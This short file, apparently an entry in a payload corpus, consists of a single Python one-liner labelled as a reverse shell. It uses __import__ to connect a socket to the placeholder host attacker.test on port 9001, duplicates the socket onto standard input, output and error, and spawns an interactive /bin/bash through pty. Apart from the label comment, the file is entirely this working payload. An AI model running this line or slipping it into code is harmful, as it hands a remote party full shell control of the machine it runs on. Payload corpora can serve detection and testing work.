# corpus: one-line reverse shell using __import__ for socket, os and pty
__import__("os").dup2(__import__("socket").create_connection(("attacker.test", 9001)).fileno(), 0) or __import__("os").dup2(0, 1) or __import__("os").dup2(0, 2) or __import__("pty").spawn("/bin/bash")
